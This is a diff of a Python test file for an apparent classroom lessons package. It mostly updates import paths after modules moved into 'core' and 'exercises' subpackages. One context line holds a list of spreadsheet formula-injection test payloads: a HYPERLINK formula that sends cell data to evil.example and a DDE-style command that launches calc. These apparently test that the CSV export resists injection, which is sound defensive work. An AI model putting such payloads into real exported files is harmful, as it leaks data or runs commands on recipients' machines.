@@ -23,11 +23,11 @@ import filelock
 import pytest
 
 import lessons as L
-import lessons.config as config
+import lessons.core.config as config
 from conftest import REPO
-from lessons import progress
-from lessons.progress import ProgressStore, class_table, progress_path
-from lessons.text import t
+from lessons.exercises import progress
+from lessons.exercises.progress import ProgressStore, class_table, progress_path
+from lessons.core.text import t
 
 GOOD = {
     "00.1": {"lesson": "00", "kind": "choice", "answer": "tkm", "correct": True, "attempts": 2,
@@ -274,7 +274,7 @@ def test_an_unrestorable_saved_answer_does_not_break_the_exercise():
 
 WRITER = r"""
 import sys, filelock
-from lessons import progress
+from lessons.exercises import progress
 if sys.argv[3] == "soft":
     progress.LockClass = filelock.SoftFileLock  # the path without fcntl/msvcrt
 store = progress.ProgressStore(sys.argv[1])
@@ -422,7 +422,7 @@ PAYLOADS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C cal
 
 def _collect(folder: Path, tmp_path: Path, timeout: float = 60) -> tuple[subprocess.CompletedProcess, Path, Path]:
     wide, long = tmp_path / "class.csv", tmp_path / "answers.csv"
-    result = subprocess.run([sys.executable, "-m", "lessons.progress", "collect", str(folder), "-o", str(wide), "--long", str(long)],
+    result = subprocess.run([sys.executable, "-m", "lessons.exercises.progress", "collect", str(folder), "-o", str(wide), "--long", str(long)],
                             capture_output=True, text=True, cwd=REPO, timeout=timeout,
                             env={**os.environ, "PYTHONPATH": str(REPO)})
     return result, wide, long
